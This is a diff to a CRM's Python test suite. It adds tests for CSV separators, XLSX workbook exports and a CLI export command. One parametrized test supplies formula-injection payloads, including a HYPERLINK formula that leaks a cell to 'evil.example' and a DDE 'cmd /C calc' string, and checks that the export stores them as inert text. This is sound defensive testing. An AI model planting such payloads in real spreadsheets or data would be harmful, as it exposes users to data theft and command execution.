@@ -6,17 +6,21 @@ import csv
 import io
 import itertools
 import json
+import tracemalloc
+import zipfile
 from datetime import datetime, timedelta
 from decimal import Decimal
 
+import openpyxl
 import pytest
-from sqlalchemy import select
+from sqlalchemy import func, select
 
-from crm import csv_export, funnel
+from crm import csv_export, funnel, xlsx_export
 from crm.exports import queries
 from crm.extensions import db
 from crm.intake.receiving import new_token
 from crm.models import ActivityKind, ApiToken, IntakeForm, Lead, utcnow
+from crm.timezones import local_today
 from tests import factories
 from tests.querycount import counting_queries
 
@@ -41,17 +45,18 @@ LEAD_HEADER = [
 ACTIVITY_HEADER = ["Lead number", "Lead", "When", "Kind", "Author", "What was said", "Status after"]
 
 
-def table(response):
+def table(response, separator=","):
     """The rows of a CSV download, after checking it is UTF-8 with a byte order mark."""
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     assert response.data.startswith(codecs.BOM_UTF8)
-    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
+    text = response.data.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
 
 
-def records(response):
+def records(response, separator=","):
     """The CSV rows as dicts by header."""
-    header, *rows = table(response)
+    header, *rows = table(response, separator)
     return [dict(zip(header, row, strict=True)) for row in rows]
 
 
@@ -235,7 +240,13 @@ def test_a_salesperson_takes_away_what_the_list_shows_them(client, admin, stages
 
 
 def test_downloads_need_a_login(client, admin):
-    for url in ("/export/leads.csv", "/export/activities.csv", "/export/everything.json"):
+    for url in (
+        "/export/leads.csv",
+        "/export/leads.xlsx",
+        "/export/activities.csv",
+        "/export/activities.xlsx",
+        "/export/everything.json",
+    ):
         response = client.get(url)
         assert response.status_code in (302, 303)
         assert "/login" in response.headers["Location"]
@@ -374,6 +385,302 @@ def test_activity_chunks_neither_repeat_nor_skip(logged_in, admin, stages, monke
     assert sorted(whole) == [f"note {n}" for n in range(7)]
 
 
+# The separator: the one Excel expects in the viewer's language, or the one chosen
+
+
+def speaks(user, language, zone=None):
+    user.locale = language
+    user.timezone = zone or user.timezone
+    db.session.commit()
+
+
+@pytest.fixture
+def lead_and_contact(admin, stages):
+    lead = factories.lead(title="Ромашка; и компания", owner=admin, value=Decimal("1250000.50"))
+    factories.activity(lead, admin, body="Звонок, потом письмо; всё")
+    return lead
+
+
+SEPARATED = ["/export/leads.csv", "/export/activities.csv?all=1"]
+
+
+@pytest.mark.parametrize(
+    ("language", "sep", "separator"),
+    [
+        ("en", None, ","),
+        ("ru", None, ";"),
+        ("en", "semicolon", ";"),
+        ("ru", "comma", ","),
+        # Anything else is no choice: the language's separator, as for a mistyped filter.
+        ("ru", "tab", ";"),
+        ("en", "", ","),
+        ("en", "%00", ","),
+        ("ru", "semicolon;", ";"),
+    ],
+)
+def test_the_separator_is_the_languages_unless_chosen(
+    logged_in, admin, lead_and_contact, language, sep, separator
+):
+    speaks(admin, language)
+    for url in SEPARATED:
+        chosen = url + ("&" if "?" in url else "?") + f"sep={sep}" if sep is not None else url
+        header, row = table(logged_in.get(chosen), separator)
+        assert len(header) == len(row) > 5, chosen
+        assert "Ромашка; и компания" in row
+
+
+def test_a_semicolon_file_has_decimal_commas_and_the_same_dates(logged_in, admin, stages):
+    """Excel with Russian settings reads "1250000,50" as a number; "1250000.50" as text."""
+    speaks(admin, "ru", "Europe/Moscow")
+    lead = factories.lead(title="ООО «Ромашка»", owner=admin, value=Decimal("1250000.50"))
+    lead.created_at = datetime(2026, 3, 7, 20, 30)
+    lead.next_step_at = datetime(2026, 3, 9, 21, 0)
+    db.session.commit()
+    header, row = table(logged_in.get("/export/leads.csv"), ";")
+    assert header[:2] == ["Номер", "Название"]
+    by_column = dict(zip(header, row, strict=True))
+    assert by_column["Сумма"] == "1250000,50"
+    assert by_column["Создан"] == "2026-03-07 23:30"
+    assert by_column["Следующий шаг"] == "2026-03-10"
+    # With commas the decimal point stays, or the amount would be split in two.
+    header, row = table(logged_in.get("/export/leads.csv?sep=comma"))
+    assert dict(zip(header, row, strict=True))["Сумма"] == "1250000.50"
+
+
+def test_numbers_take_the_files_decimal_mark_and_text_stays_as_typed():
+    assert csv_export.cell(Decimal("-1250.50"), decimal_comma=True) == "-1250,50"
+    assert csv_export.cell(12.5, decimal_comma=True) == "12,5"
+    assert csv_export.cell(12.5) == "12.5"
+    assert csv_export.cell(3, decimal_comma=True) == "3"
+    assert csv_export.cell(True, decimal_comma=True) == "1"
+    # Text is text: a version number or a typed amount is not rewritten.
+    assert csv_export.cell("1.5", decimal_comma=True) == "1.5"
+    text = csv_export.to_text(["a", "b"], [(Decimal("1.5"), "x;y")], separator=";")
+    assert text == '\ufeffa;b\r\n1,5;"x;y"\r\n'
+
+
+# XLSX workbooks
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def workbook(response):
+    """The workbook of an XLSX download, after checking how it is sent."""
+    assert response.status_code == 200
+    assert response.mimetype == XLSX
+    assert response.headers["Content-Length"] == str(len(response.data))
+    return openpyxl.load_workbook(io.BytesIO(response.data))
+
+
+def cells(sheet):
+    """The sheet's values, row by row."""
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def saved_as(response):
+    """The file name a browser saves a download as."""
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith("attachment; ")
+    return disposition.split('filename="', 1)[1].split('"', 1)[0]
+
+
+def test_leads_workbook_has_a_cell_of_its_type_for_every_column(logged_in, admin, stages):
+    admin.timezone = "Asia/Yekaterinburg"  # UTC+5
+    lead = factories.lead(
+        title="ООО «Ромашка»",
+        owner=admin,
+        contact_name="Иван Петров",
+        phone="+7 (999) 123-45-67",
+        email="ivan@example.com",
+        source="Сайт",
+        value=Decimal("1250000.50"),
+        next_step_note="Позвонить",
+    )
+    lead.created_at = datetime(2026, 3, 7, 20, 30, 15, 250)
+    lead.next_step_at = datetime(2026, 3, 9, 19, 0)  # midnight of the 10th there: a whole day
+    lead.last_activity_at = datetime(2026, 3, 8, 6, 15)
+    db.session.commit()
+
+    response = logged_in.get("/export/leads.xlsx")
+
+    book = workbook(response)
+    assert saved_as(response) == f"leads-{local_today().isoformat()}.xlsx"
+    assert book.sheetnames == ["Leads"]
+    sheet = book["Leads"]
+    assert sheet.freeze_panes == "A2"
+    header, row = list(sheet.iter_rows())
+    assert [cell.value for cell in header] == LEAD_HEADER
+    assert all(cell.font.b and cell.data_type == "s" for cell in header)
+    assert [cell.value for cell in row] == [
+        lead.number,
+        "ООО «Ромашка»",
+        "Иван Петров",
+        "+7 (999) 123-45-67",
+        "ivan@example.com",
+        "Сайт",
+        stages[0].name,
+        "Ada Admin",
+        1250000.5,
+        datetime(2026, 3, 10),
+        "Позвонить",
+        None,
+        None,
+        datetime(2026, 3, 8, 11, 15),
+        datetime(2026, 3, 8, 1, 30),
+        False,
+    ]
+    number, value, next_step, last_contact, created, archived = (
+        row[i] for i in (0, 8, 9, 13, 14, 15)
+    )
+    assert (number.data_type, value.data_type, archived.data_type) == ("n", "n", "b")
+    assert value.number_format == "#,##0.00"
+    assert next_step.number_format == "yyyy-mm-dd"
+    assert last_contact.number_format == created.number_format == "yyyy-mm-dd hh:mm"
+
+
+def test_a_russian_workbook(logged_in, admin, stages):
+    speaks(admin, "ru")
+    factories.lead(title="Ёлки-палки", owner=admin, value=Decimal("99.90"))
+    book = workbook(logged_in.get("/export/leads.xlsx"))
+    assert book.sheetnames == ["Лиды"]
+    header, row = cells(book["Лиды"])
+    assert header[:2] == ["Номер", "Название"]
+    assert (row[1], row[8]) == ("Ёлки-палки", 99.9)
+    book = workbook(logged_in.get("/export/activities.xlsx?all=1"))
+    assert book.sheetnames == ["Контакты"]
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
+        "=1+1",
+        "+SUM(1+1)",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "#N/A",
+        "#DIV/0!",
+    ],
+)
+def test_formula_like_text_is_text_in_a_workbook(logged_in, stages, typed):
+    factories.lead(title=typed)
+    response = logged_in.get("/export/leads.xlsx")
+    cell = workbook(response)["Leads"]["B2"]
+    assert (cell.value, cell.data_type) == (typed, "s")
+    # No formula anywhere in the file: nothing for Excel to run.
+    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_control_characters_are_left_out_of_a_workbook(logged_in, stages):
+    factories.lead(title="Bell\x07 and\x0b tab\there", next_step_note="line\nbreak")
+    (_header, row) = cells(workbook(logged_in.get("/export/leads.xlsx"))["Leads"])
+    assert (row[1], row[10]) == ("Bell and tab\there", "line\nbreak")
+
+
+def test_the_workbook_holds_what_the_csv_file_holds(logged_in, admin, stages, history):
+    """The same filters, scope and order, whatever the format."""
+    seller = factories.user(name="Bo")
+    for n in range(5):
+        factories.lead(title=f"Acme {n}", owner=(admin, seller)[n % 2], stage=stages[n % 2])
+    for query in ("q=acme&sort=title&dir=asc", f"owner={seller.id}", "stage=" + str(stages[1].id)):
+        csv_numbers = numbers(logged_in.get(f"/export/leads.csv?{query}"))
+        rows = cells(workbook(logged_in.get(f"/export/leads.xlsx?{query}"))["Leads"])[1:]
+        assert [row[0] for row in rows] == csv_numbers, query
+    for query in ("range=week", f"range=week&author={history.id}", "all=1"):
+        csv_said = said(logged_in.get(f"/export/activities.csv?{query}"))
+        rows = cells(workbook(logged_in.get(f"/export/activities.xlsx?{query}"))["Activities"])
+        assert [row[5] for row in rows[1:]] == csv_said, query
+
+
+def test_activities_workbook(logged_in, admin, stages, history):
+    response = logged_in.get("/export/activities.xlsx?range=week")
+    first, last = local_today() - timedelta(days=6), local_today()
+    assert saved_as(response) == f"activities-{first}-{last}.xlsx"
+    header, *rows = cells(workbook(response)["Activities"])
+    assert header == ACTIVITY_HEADER
+    assert rows == [
+        [1, "Acme", at(6), "Call", "Ada Admin", "Called: =SUM(A1)", None],
+        [2, "Globex", at(3), "Email", "Sam Seller", "Письмо отправлено", None],
+        [1, "Acme", at(0, 1), "Meeting", "Ada Admin", "Met", stages[1].name],
+    ]
+    assert saved_as(logged_in.get("/export/activities.xlsx?all=1")) == "activities.xlsx"
+
+
+def test_bad_feed_filters_get_a_message_for_a_workbook_too(logged_in):
+    response = logged_in.get("/export/activities.xlsx?from=2026-13-45")
+    assert response.status_code == 422
+    assert "Enter a date as year-month-day" in response.text
+
+
+def test_an_empty_list_is_a_workbook_with_its_header(logged_in):
+    (header,) = cells(workbook(logged_in.get("/export/leads.xlsx"))["Leads"])
+    assert header == LEAD_HEADER
+
+
+def test_a_table_longer_than_a_sheet_goes_on_in_the_next(logged_in, stages, monkeypatch):
+    monkeypatch.setattr(xlsx_export, "ROWS_PER_SHEET", 2)
+    for count, sheets in ((4, ["Leads", "Leads (2)"]), (5, ["Leads", "Leads (2)", "Leads (3)"])):
+        while db.session.scalar(select(func.count(Lead.id))) < count:
+            factories.lead()
+        book = workbook(logged_in.get("/export/leads.xlsx"))
+        assert book.sheetnames == sheets
+        parts = [cells(book[name]) for name in sheets]
+        assert all(part[0] == LEAD_HEADER for part in parts)
+        listed = [row[0] for part in parts for row in part[1:]]
+        assert listed == list(range(count, 0, -1))
+
+
+def test_sheet_names_are_ones_excel_takes():
+    assert xlsx_export.sheet_name("Воронка: шаги [1/2]?") == "Воронка шаги 1 2"
+    assert xlsx_export.sheet_name("'Quoted'") == "Quoted"
+    assert xlsx_export.sheet_name("") == "Sheet"
+    long = xlsx_export.sheet_name("Очень длинное название отчёта для листа", part=12)
+    assert len(long) == 31 and long.endswith(" (12)")
+
+
+def test_a_workbook_is_written_as_its_rows_are_read(tmp_path):
+    """Memory stays flat: each row goes to disk as it is read, none is kept, so ten times the
+    rows take no more memory than a tenth of them."""
+    header = ["Number", "Title", "Value", "When", "Note"]
+
+    def rows(count):
+        for n in range(count):
+            moment = datetime(2026, 1, 1) + timedelta(minutes=n)
+            yield (n, f"Лид {n} «Ромашка»", Decimal("1250.50"), moment, "=cmd")
+
+    def peak_memory(count):
+        tracemalloc.start()
+        try:
+            with open(tmp_path / f"{count}.xlsx", "wb") as out:
+                xlsx_export.write_workbook(out, "Leads", header, rows(count))
+            return tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+
+    few, many = peak_memory(300), peak_memory(3_000)
+    assert many < few * 1.5
+    with open(tmp_path / "3000.xlsx", "rb") as saved:
+        sheet = openpyxl.load_workbook(saved, read_only=True)["Leads"]
+        assert sum(1 for _row in sheet.iter_rows()) == 3_001
+
+
+def test_a_workbook_is_sent_in_pieces_from_disk(logged_in, stages, monkeypatch):
+    for _n in range(30):
+        factories.lead(title="Лид с длинным названием, чтобы файл был побольше " * 3)
+    monkeypatch.setattr(xlsx_export, "SEND_BYTES", 1024)
+    response = logged_in.get("/export/leads.xlsx", buffered=False)
+    assert response.is_streamed
+    pieces = list(response.response)
+    response.close()
+    assert len(pieces) > 2 and all(len(piece) <= 1024 for piece in pieces)
+    assert sum(map(len, pieces)) == int(response.headers["Content-Length"])
+
+
+def test_an_unknown_format_is_not_found(logged_in, stages):
+    for url in ("/export/leads.pdf", "/export/leads.xls", "/export/activities.XLSX"):
+        assert logged_in.get(url).status_code == 404, url
+
+
 # The full JSON export
 
 
@@ -486,6 +793,8 @@ def queries_for(client, url):
         "/export/leads.csv",
         "/export/leads.csv?sort=owner&q=lead",
         "/export/activities.csv?all=1",
+        "/export/leads.xlsx?sort=owner&q=lead",
+        "/export/activities.xlsx?all=1",
         "/export/everything.json",
     ],
 )
@@ -567,3 +876,36 @@ def test_every_lead_reaches_the_file(runner, stages, tmp_path, monkeypatch):
     assert [int(row[0]) for row in rows[1:]] == sorted(
         db.session.scalars(select(Lead.number)), reverse=True
     )
+
+
+def test_export_command_writes_workbooks(runner, admin, stages, tmp_path):
+    lead = factories.lead(title="=Ромашка", owner=admin, value=Decimal("10.50"))
+    factories.activity(lead, admin, body="Звонок")
+    paths = {name: tmp_path / f"{name}.xlsx" for name in ("leads", "activities")}
+    result = runner.invoke(
+        args=[
+            *("export", "--format", "xlsx", "--language", "ru"),
+            *("--leads", str(paths["leads"]), "--activities", str(paths["activities"])),
+        ]
+    )
+    assert result.exit_code == 0, result.output
+    assert "Wrote 1 leads" in result.output
+    leads_book = openpyxl.load_workbook(paths["leads"])
+    header, row = cells(leads_book["Лиды"])
+    assert (header[0], row[0], row[1], row[8]) == ("Номер", lead.number, "=Ромашка", 10.5)
+    (_header, contact) = cells(openpyxl.load_workbook(paths["activities"])["Контакты"])
+    assert contact[5] == "Звонок"
+
+
+def test_export_command_takes_the_languages_separator_unless_told(runner, admin, stages):
+    factories.lead(title="Ромашка", value=Decimal("10.50"))
+    for options, separator in (
+        (["--language", "ru"], ";"),
+        (["--language", "ru", "--separator", "comma"], ","),
+        (["--language", "en", "--separator", "semicolon"], ";"),
+    ):
+        result = runner.invoke(args=["export", "--leads", "-", "--timezone", "UTC", *options])
+        assert result.exit_code == 0, result.output
+        text = result.stdout_bytes.decode("utf-8-sig")
+        _header, row = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
+        assert row[8] == ("10,50" if separator == ";" else "10.50"), options
